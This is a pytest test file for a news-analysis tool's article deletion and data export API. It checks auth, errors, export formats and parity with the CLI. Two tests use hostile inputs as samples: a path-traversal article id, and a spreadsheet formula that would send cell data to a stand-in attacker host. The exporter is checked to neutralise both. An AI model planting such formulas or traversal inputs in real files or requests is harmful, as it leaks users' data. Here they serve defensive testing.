"""DELETE /api/articles/{id} and GET /api/export/{what}: the CLI's `delete` and `export` over HTTP,
by the same store calls and with the same names (issue 21)."""

from __future__ import annotations

import csv
import io
import json

import pyarrow.parquet
import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from marsad.cli import cli
from marsad.serve import ServeSettings, create_app
from marsad.serve.samples import sample_store
from marsad.store import open_store
from tests.serve.conftest import REUTERS, UNRELATED, WASHINGTON

TOKEN = {"Authorization": "Bearer s3cret-token"}


def story_totals_match_members(client, story_id: str) -> dict:
    """The story as the API gives it, after checking that its size and article count are its members'."""
    story = client.get(f"/api/stories/{story_id}").json()
    members = story["members"]
    listed = next(item for item in client.get("/api/stories").json()["items"] if item["id"] == story_id)
    assert listed["size"] == len(members)  # independent articles
    assert listed["articles"] == len(members) + sum(len(member["copies"]) for member in members)
    return story


# -- delete --------------------------------------------------------------------------------------
def test_delete_article_recomputes_its_story_and_promotes_its_copy(fresh):
    story_id = fresh.client.get(f"/api/articles/{REUTERS}").json()["story_id"]
    response = fresh.client.delete(f"/api/articles/{REUTERS}")
    assert response.status_code == 200, response.text
    assert response.json() == {"id": REUTERS, "story_id": story_id, "story_deleted": False, "promoted": fresh.wire_copy}
    assert fresh.client.get(f"/api/articles/{REUTERS}").status_code == 404
    story = story_totals_match_members(fresh.client, story_id)
    assert {member["id"] for member in story["members"]} == {WASHINGTON, fresh.wire_copy, fresh.conflicting}
    assert REUTERS not in {item["id"] for item in fresh.client.get("/api/articles", params={"story": story_id}).json()["items"]}
    assert fresh.client.get("/api/health").json()["store"]["articles"] == 6


def test_delete_last_article_deletes_its_story(fresh):
    story_id = fresh.client.get(f"/api/articles/{UNRELATED}").json()["story_id"]
    assert fresh.client.delete(f"/api/articles/{UNRELATED}").json()["story_deleted"] is True
    assert fresh.client.get(f"/api/stories/{story_id}").status_code == 404
    assert story_id not in {item["id"] for item in fresh.client.get("/api/stories").json()["items"]}


def test_delete_is_gone_after_reopening_the_store(engine, tmp_path):
    path = tmp_path / "news.db"
    store = sample_store(engine, path)
    client = TestClient(create_app(store, engine))
    story_id = client.get(f"/api/articles/{REUTERS}").json()["story_id"]
    vector = store.analysed(REUTERS).analysis.document_vector
    assert client.delete(f"/api/articles/{REUTERS}").status_code == 200
    store.close()
    with open_store(path) as reopened:
        assert reopened.article(REUTERS) is None
        assert REUTERS not in [article_id for article_id, _ in reopened.nearest(vector, 10)]  # nor in the saved vector index
        summary = reopened.story(story_id).summary
        assert (summary.size, summary.articles) == (1, 1)  # Washington's report is left
        assert reopened.counts().articles == 2


def test_delete_missing_or_malformed_id_is_404_one_line(fresh):
    for article_id in ("0000000000000000", "DC11BC132F0D2CBD", "nope"):
        response = fresh.client.delete(f"/api/articles/{article_id}")
        assert response.status_code == 404, article_id
        assert response.headers["content-type"].startswith("application/json")
        detail = response.json()["detail"]
        assert "no article" in detail and "\n" not in detail
    assert fresh.client.delete("/api/articles/..%2F..%2Fpyproject.toml").status_code == 404  # no route: never a path
    assert fresh.client.get("/api/health").json()["store"]["articles"] == 7


def test_delete_needs_the_token_when_the_server_has_one(engine):
    client = TestClient(create_app(sample_store(engine), engine, ServeSettings(write_token="s3cret-token")))
    for headers in ({}, {"Authorization": "Bearer wrong"}, {"Authorization": "s3cret-token"}):
        refused = client.delete(f"/api/articles/{REUTERS}", headers=headers)
        assert refused.status_code == 401 and refused.headers["www-authenticate"] == "Bearer", headers
    assert client.get(f"/api/articles/{REUTERS}").status_code == 200
    assert client.delete(f"/api/articles/{REUTERS}", headers=TOKEN).status_code == 200
    assert client.get(f"/api/articles/{REUTERS}").status_code == 404


def test_delete_on_a_server_that_keeps_nothing_is_refused(engine):
    client = TestClient(create_app(sample_store(engine), engine, ServeSettings(writes_refused="serving the bundled samples: nothing is kept")))
    assert client.delete(f"/api/articles/{REUTERS}").status_code == 409
    assert client.get(f"/api/articles/{REUTERS}").status_code == 200


# -- export --------------------------------------------------------------------------------------
def jsonl(response) -> list[dict]:
    return [json.loads(line) for line in response.text.splitlines()]


def test_export_articles_is_every_stored_article_as_json_lines(served):
    response = served.client.get("/api/export/articles")
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/x-ndjson"
    assert response.headers["content-disposition"] == 'attachment; filename="articles.jsonl"'
    rows = jsonl(response)
    stored = served.client.get("/api/articles", params={"limit": 200}).json()
    assert len(rows) == stored["total"] == 7
    assert {row["id"] for row in rows} == {item["id"] for item in stored["items"]}
    reuters = next(row for row in rows if row["id"] == REUTERS)
    assert reuters["text"] and reuters["story_id"] == served.client.get(f"/api/articles/{REUTERS}").json()["story_id"]
    assert next(row for row in rows if row["id"] == served.wire_copy)["copy_of"] == REUTERS


def test_export_filters_are_the_searchs(served):
    """Each filter keeps what the same search of /api/articles or /api/stories lists, and no more."""
    def exported(what: str, **params) -> set[str]:
        response = served.client.get(f"/api/export/{what}", params=params)
        assert response.status_code == 200, response.text
        return {row["id"] for row in jsonl(response)}

    def listed(what: str, **params) -> set[str]:
        return {item["id"] for item in served.client.get(f"/api/{what}", params={**params, "limit": 200}).json()["items"]}

    everything = exported("articles")
    for params in ({"outlet": "english.example.com"}, {"text": "Gerasimov"}, {"q": "Gerasimov"}, {"language": "en"},
                   {"since": "2021-09-23"}, {"until": "2021-09-22"}, {"entity": "place:658225"}):
        kept = exported("articles", **params)
        assert kept == listed("articles", **params) and 0 < len(kept) < len(everything), params
    assert exported("articles", outlet="english.example.com") == {served.english}
    assert exported("stories", q="هلسنكي") == listed("stories", q="هلسنكي") != exported("stories")
    assert exported("articles", outlet="nowhere.example") == set()


def test_export_stories_csv_and_parquet(served):
    stories = served.client.get("/api/stories").json()["items"]
    response = served.client.get("/api/export/stories", params={"format": "csv"})
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="stories.csv"'
    assert response.content.startswith("\ufeff".encode())  # spreadsheets then read the Arabic as UTF-8
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row["id"] for row in rows] == [story["id"] for story in stories]
    response = served.client.get("/api/export/articles", params={"format": "parquet"})
    assert response.headers["content-disposition"] == 'attachment; filename="articles.parquet"'
    assert len(pyarrow.parquet.read_table(io.BytesIO(response.content)).to_pylist()) == 7


def test_export_bad_parameters_are_one_line(served):
    assert served.client.get("/api/export/everything").status_code == 422
    bad_format = served.client.get("/api/export/articles", params={"format": "xlsx"})
    assert bad_format.status_code == 422 and "format" in bad_format.text
    assert served.client.get("/api/export/articles", params={"since": "yesterday"}).status_code == 422


def test_export_writes_the_same_bytes_as_the_cli(engine, tmp_path):
    path = tmp_path / "news.db"
    store = sample_store(engine, path)
    client = TestClient(create_app(store, engine))
    for what, file_format, options in (("articles", "jsonl", ["--text", "هلسنكي"]), ("stories", "csv", [])):
        output = tmp_path / f"{what}.{file_format}"
        result = CliRunner().invoke(cli, ["export", what, str(output), "--db", str(path), *options])
        assert result.exit_code == 0, result.output
        params = {"format": file_format, **({"text": options[1]} if options else {})}
        assert client.get(f"/api/export/{what}", params=params).content == output.read_bytes()
        assert output.read_bytes().count(b"\n") == (2 if options else 1 + 2)  # the two Helsinki reports; a header and two stories
    store.close()


# -- the CLI's names -----------------------------------------------------------------------------
@pytest.mark.parametrize(("command", "path"), [("stories", "/api/stories"), ("articles", "/api/articles"), ("export", "/api/export/{what}")])
def test_api_takes_the_clis_option_names(served, command, path):
    """Every filter and order the CLI command has, the endpoint takes by the same name (--min-outlets → min_outlets)."""
    not_over_http = {"db", "json", "yes"}  # the server's store; the API always answers JSON
    options = {name.lstrip("-").replace("-", "_") for param in cli.commands[command].params if param.param_type_name == "option"
               for name in param.opts if name.startswith("--")} - not_over_http
    parameters = {parameter["name"] for parameter in served.client.get("/openapi.json").json()["paths"][path]["get"]["parameters"]}
    assert options <= parameters, options - parameters


def test_stories_take_text_and_min_size_as_the_cli_does(served):
    def ids(**params) -> list[str]:
        response = served.client.get("/api/stories", params=params)
        assert response.status_code == 200, response.text
        return [item["id"] for item in response.json()["items"]]

    assert ids(text="هلسنكي") == ids(q="هلسنكي") and ids(text="هلسنكي")
    sizes = {item["id"]: item["size"] for item in served.client.get("/api/stories").json()["items"]}
    assert set(ids(min_size=2)) == {story_id for story_id, size in sizes.items() if size >= 2} != set(sizes)
    both = served.client.get("/api/stories", params={"q": "هلسنكي", "text": "Milley"})
    assert both.status_code == 422 and "not both" in both.json()["detail"]


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_kept_as_text():
    from marsad.store.export import export_chunks

    records = [{"id": "s1", "headline": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "size": 2, "outlets": ["@evil", "reuters.com"]},
               {"id": "s2", "headline": "رئيسا الأركان يجتمعان في هلسنكي", "size": 1, "outlets": ["+cmd"]}]
    text = b"".join(export_chunks("csv", records, ["id", "headline", "size", "outlets"])).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["headline"] == "'" + records[0]["headline"] and rows[0]["outlets"] == "'@evil; reuters.com"
    assert rows[1]["headline"] == records[1]["headline"] and rows[1]["outlets"] == "'+cmd" and rows[0]["size"] == "2"
    # JSON Lines keep the value as it is: no spreadsheet reads them.
    assert json.loads(b"".join(export_chunks("jsonl", records[:1], ["headline"])))["headline"] == records[0]["headline"]
